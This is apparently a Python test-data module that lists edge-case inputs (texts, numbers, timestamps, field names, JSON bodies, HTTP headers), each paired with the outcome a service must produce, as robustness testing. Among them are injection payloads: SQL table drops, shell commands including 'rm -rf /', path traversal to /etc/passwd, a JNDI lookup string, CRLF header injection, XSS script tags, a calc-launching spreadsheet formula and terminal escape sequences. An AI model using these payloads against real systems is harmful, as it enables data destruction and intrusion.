"""Values that break software: one table of texts, numbers, times, names, bodies and headers, each with the outcome that
it must have at every door.

`KEPT`: what comes in is what is there afterwards. `REFUSED`: an answer that says what is wrong, and nothing is stored.
`UNSTORABLE`: refused, or U+FFFD stands for what cannot be stored: for half of a surrogate pair, which senders make that
cut texts, and where nobody can correct it any more (results, errors, answers of other servers). `TAKEN`: accepted,
whatever part of it is used. A door that cannot carry a value (a NUL in an argument, a line break in a header) refuses
it. Never: a 5xx, the error kind `internal`, a neighbour that is lost.
"""

from enum import StrEnum
from typing import Final, NamedTuple


class Kind(StrEnum):
    """What a value is. Numbers are JSON as it is written; bodies and headers are bytes."""

    TEXT = "text"
    NUMBER = "number"
    TIME = "time"
    NAME = "name"
    BODY = "body"
    HEADER = "header"


class Outcome(StrEnum):
    """What must become of a value."""

    KEPT = "kept"
    REFUSED = "refused"
    UNSTORABLE = "unstorable"
    TAKEN = "taken"


class Hostile(NamedTuple):
    """One row. `means` is what a time is in UTC, when it is another text."""

    kind: Kind
    name: str
    value: str | bytes
    outcome: Outcome
    means: str = ""

    @property
    def text(self) -> str:
        """The value of a row that is not bytes."""
        assert isinstance(self.value, str)
        return self.value

    @property
    def raw(self) -> bytes:
        """The value of a row as it is sent."""
        return self.value if isinstance(self.value, bytes) else self.value.encode("utf-8", "surrogatepass")


_TEXTS: Final[dict[str, str]] = {
    "empty": "", "space": " ", "spaces around": "  a  ", "tab": "\t", "line feed": "\n", "carriage return": "\r",
    "crlf": "a\r\nb", "crlf injection": "a\r\nX-Injected: yes\r\n\r\n<b>", "vertical tab": "\x0b", "form feed": "\x0c",
    "bell": "\x07", "backspace": "a\x08b", "escape": "\x1b", "title": "\x1b]0;owned\x07", "clear": "\x1b[2J\x1b[H",
    "hyperlink": "\x1b]8;;http://evil.example\x1b\\x\x1b]8;;\x1b\\", "delete": "\x7f", "csi": "\x9b31m",
    "nel": "a\x85b", "all controls": "".join(map(chr, range(1, 32))), "no-break space": "\u00a0",
    "soft hyphen": "a\u00adb", "zero width space": "a\u200bb", "zero width joiner": "👩\u200d👩\u200d👧",
    "bom": "\ufeffa", "bom inside": "a\ufeffb", "line separator": "a\u2028b", "paragraph separator": "a\u2029b",
    "right to left": "\u202egpj.exe", "isolates": "\u2066a\u2069", "arabic": "مرحبا", "hebrew": "שלום",
    "thai": "สวัสดี", "hindi": "नमस्ते", "chinese": "你好", "korean": "안녕", "composed": "é", "decomposed": "e\u0301",
    "ligature": "ﬁ", "sharp s": "ß", "dotless i": "ı", "dotted i": "İ", "long s": "ſ",
    "zalgo": "a" + "\u0301\u0327" * 200, "astral": "𝒳", "emoji": "😀", "flag": "🇩🇪", "skin": "👍🏽",
    "noncharacter": "\uffff", "noncharacter astral": "\U0010ffff", "private use": "\ue000", "replacement": "\ufffd",
    "tags": "\U000e0041\U000e007f", "wide equals": "＝1+1", "formula": "=1+1", "plus": "+1", "minus": "-1",
    "at": "@SUM(1)", "command formula": "=cmd|' /C calc'!A0", "quoted formula": "'=1", "quote": "'",
    "double quote": '"', "backtick": "`", "backslash": "\\", "backslash n": "\\n", "backslash u": "\\u0000",
    "quotes in quotes": "\"'`\\\"'`", "copy end": "\\.", "copy null": "\\N", "csv": 'a,"b";c\td', "separators": ";;;",
    "sep": "sep=;", "null": "null", "none": "None", "nil": "NULL", "undefined": "undefined", "true": "true",
    "false": "False", "yes": "yes", "no": "no", "nan": "NaN", "infinity": "Infinity", "zero": "0",
    "leading zeros": "007", "number": "1e1000", "hex": "0x10", "octal": "0o17", "date": "2030-01-31T09:00:00Z",
    "not a date": "2030-02-30", "now": "now", "duration": "1h", "uuid": "00000000-0000-0000-0000-000000000000",
    "thing id": "1700000000000x123456789012345678", "sql": "'; DROP TABLE penstock.runs; --",
    "dollar quote": "$$x$$ $1 $tag$", "identifier": '"penstock"."runs"', "like": "%_\\%",
    "html": "<script>alert(1)</script>", "entity": "&lt;&#0;&amp;", "template": "${secrets.KEY}",
    "template escaped": "$${x}", "template open": "${", "template nested": "${'${'}'}", "jinja": "{{7*7}}",
    "format": "%s%n%x {0} {x!r}", "shell": "$(touch /tmp/x) `id` ; rm -rf /", "path": "../../etc/passwd",
    "windows path": "C:\\con\\nul", "file url": "file:///etc/passwd", "url": "http://[::1%25eth0]:99999/?#",
    "log4j": "${jndi:ldap://x}", "mail header": "a@b.example\nBcc: c@d.example", "json": '{"a": [1, null]}',
    "broken json": '{"a": ', "yaml": "- a: &b *b", "xml": '<!DOCTYPE a [<!ENTITY b "b">]><a>&b;</a>',
    "encoded word": "=?utf-8?q?a?=", "percent": "%00%0a%zz", "percent 2": "%252e", "form": "a=b&c[]=d;e",
    "base64": "AA==", "plus and space": "a+b c", "question": "?x=1#y", "star": "*", "rich markup": "[red]x[/]",
    "emoji code": ":smile:", "markdown": "[x](javascript:alert(1))", "proto": "__proto__", "dunder": "__class__",
    "id": "_id", "long": "x" * 10_000, "long words": "word " * 5_000, "many lines": "\n" * 5_000,
    "long astral": "😀" * 5_000,
}  # fmt: skip
_UNSTORABLE_TEXTS: Final = {
    "nul": "\x00", "nul inside": "a\x00b", "high half": "bad \ud800 half", "low half": "\udc00",
    "halves turned": "\udc00\ud800", "escaped byte": "caf\udce9", "nul and half": "\x00\udfff",
    "nul at the end": "a" * 300 + "\x00",
}  # fmt: skip
_NUMBERS: Final = (
    "0", "-0", "0.0", "-0.0", "1", "-1", "1.0", "0.1", "0.30000000000000004", "1e0", "1E5", "1e+5", "1.50", "100e-2",
    "1e21", "1e22", "123456789012345678", "9007199254740991", "9007199254740992", "9007199254740993",
    "-9007199254740993", "2147483648", "4294967296", "9223372036854775807", "9223372036854775808",
    "-9223372036854775809", "18446744073709551615", "18446744073709551616", "340282366920938463463374607431768211457",
    "0.1234567890123456789012345678901234567890", "1e300", "-1e300", "1e-300", "5e-324",
    "1.7976931348623157e308", "1" + "0" * 100, "0." + "0" * 100 + "1", "3.141592653589793238462643383279",
)  # fmt: skip
_NOT_NUMBERS: Final = (
    "NaN", "Infinity", "-Infinity", "+1", "01", "-01", ".5", "5.", "1e", "1e+", "--1", "0x10", "1_000", "1,5", "٣",
    "１", "1 2", "-", "1f", "1n", "True",
)  # fmt: skip
_TIMES: Final = {
    "2030-01-31T09:00:00Z": "", "2030-01-31T09:00:00+00:00": "2030-01-31T09:00:00Z", "2030-01-31T09:00:00.123Z": "",
    "2030-01-31T09:00:00+14:00": "2030-01-30T19:00:00Z", "2030-01-31T09:00:00-12:00": "2030-01-31T21:00:00Z",
    "0001-01-01T00:00:00Z": "", "9999-12-31T23:59:59Z": "", "1969-12-31T23:59:59Z": "", "1582-10-10T00:00:00Z": "",
    "2024-02-29T00:00:00Z": "", "2000-02-29T12:00:00Z": "", "2038-01-19T03:14:08Z": "", "1900-01-01T00:00:00Z": "",
    "0999-06-15T00:00:00Z": "", "2030-06-30T23:59:59Z": "",
}  # fmt: skip
_NOT_TIMES: Final = (
    "9999-12-31T23:59:59-12:00", "0001-01-01T00:00:00+14:00", "2030-02-30T00:00:00Z", "2023-02-29T00:00:00Z",
    "2030-13-01T00:00:00Z", "2030-01-32T00:00:00Z", "2030-00-10T00:00:00Z", "2030-01-31T25:00:00Z",
    "2030-01-31T09:60:00Z", "2030-01-31T09:00:61Z", "10000-01-01T00:00:00Z", "-0001-01-01T00:00:00Z", "infinity",
    "-infinity", "now", "tomorrow", "yesterday", "epoch", "BC", "later", "2030-01-31T09:00:00+25:00",
    "2030-01-31T09:00:00 Mars/Base", "٢٠٣٠-٠١-٣١T٠٩:٠٠:٠٠Z", "2030-01-31T09:00:00Z\x00",
)  # fmt: skip
_NAMES: Final = (
    "n", "o", "r", "q", "e", "s", "t", "c", "p", "id", "xmin", "ctid", "oid", "user", "order", "select", "table",
    "__proto__", "constructor", "toString", "hasOwnProperty", "__class__", "_id", "$1", "$ref", "a.b", "a[0]", "a b",
    " ", "ü", "日本", "😀", "'", '"', "\\", "/", "..", "%", "null", "true", "0", "-1", "{}", "x" * 300,
)  # fmt: skip
_BAD_BODIES: Final[dict[str, bytes]] = {
    "latin-1": b'{"value": "caf\xe9"}', "utf-16": '{"value": "a"}'.encode("utf-16"),
    "overlong": b'{"value": "\xc0\x80"}', "surrogate bytes": b'{"value": "\xed\xa0\x80"}', "cut": b'{"value": "a',
    "cut key": b'{"val', "two values": b"{} {}", "trailing": b"{}x", "single quotes": b"{'value': 1}",
    "comment": b'{"value": 1 /* x */}', "trailing comma": b'{"value": 1,}', "bare word": b"{value: 1}",
    "array": b"[1]", "number": b"1", "string": b'"x"', "true": b"true", "null": b"null",
    "deep list": b"[" * 5_000 + b"]" * 5_000, "deep object": b'{"value":' * 5_000 + b"1" + b"}" * 5_000,
    "open lists": b"[" * 100_000, "nul": b"\x00", "nul after": b"{}\x00", "binary": bytes(range(256)),
    "control in string": b'{"value": "a\x01b"}', "bad escape": b'{"value": "\\x"}',
    "half escape": b'{"value": "\\u12"}', "xml": b"<a/>", "yaml": b"value: 1", "msgpack": b"\x81\xa5value\x01",
}  # fmt: skip
_GOOD_BODIES: Final[dict[str, bytes]] = {
    "bom": b'\xef\xbb\xbf{"value": "a"}', "spaces": b' \t\r\n{"value" : "a"}\n',
    "escapes": b'{"\\u0076alue": "\\u0061\\ud83d\\ude00\\/"}', "repeated key": b'{"value": "b", "value": "a"}',
    "unknown keys": b'{"value": "a", "' + b"k" * 1_000 + b'": {}}',
}  # fmt: skip
_HEADERS: Final[dict[str, bytes]] = {
    "latin-1": b"caf\xe9", "utf-8": "日本".encode(), "bad utf-8": b"\xff\xfe", "quoted": b'"a\\"b"',
    "encoded word": b"=?utf-8?q?a?=", "long": b"x" * 4_000, "many semicolons": b"a=b;" * 900, "commas": b"," * 900,
    "percent": b"%00%0a", "tab": b"a\tb", "spaces": b"a      b", "c1": b"a\x85b", "braces": b"${jndi:ldap://x}",
    "html": b"<script>", "braces 2": b"{{7*7}}", "sql": b"'; --", "empty": b"",
}  # fmt: skip
_BAD_HEADERS: Final[dict[str, bytes]] = {
    "nul": b"a\x00b", "carriage return": b"a\rb", "line feed": b"a\nb", "escape": b"\x1b[2J", "delete": b"a\x7fb",
}  # fmt: skip


def _rows() -> list[Hostile]:
    kept, refused, taken = Outcome.KEPT, Outcome.REFUSED, Outcome.TAKEN
    rows = [Hostile(Kind.TEXT, name, text, kept) for name, text in _TEXTS.items()]
    rows += [Hostile(Kind.TEXT, name, text, Outcome.UNSTORABLE) for name, text in _UNSTORABLE_TEXTS.items()]
    rows += [Hostile(Kind.NUMBER, text[:40], text, kept) for text in _NUMBERS]
    rows += [Hostile(Kind.NUMBER, text, text, refused) for text in _NOT_NUMBERS]
    rows += [Hostile(Kind.TIME, text, text, kept, means or text) for text, means in _TIMES.items()]
    rows += [Hostile(Kind.TIME, ascii(text), text, refused) for text in _NOT_TIMES]
    rows += [Hostile(Kind.NAME, text[:40], text, kept) for text in _NAMES]
    rows += [Hostile(Kind.BODY, name, body, refused) for name, body in _BAD_BODIES.items()]
    rows += [Hostile(Kind.BODY, name, body, taken) for name, body in _GOOD_BODIES.items()]
    rows += [Hostile(Kind.HEADER, name, value, taken) for name, value in _HEADERS.items()]
    rows += [Hostile(Kind.HEADER, name, value, refused) for name, value in _BAD_HEADERS.items()]
    return rows


HOSTILE: Final = tuple(_rows())


def of_kind(kind: Kind, *outcomes: Outcome) -> list[Hostile]:
    """The rows of a kind, with these outcomes; without any, all."""
    return [row for row in HOSTILE if row.kind is kind and (not outcomes or row.outcome in outcomes)]
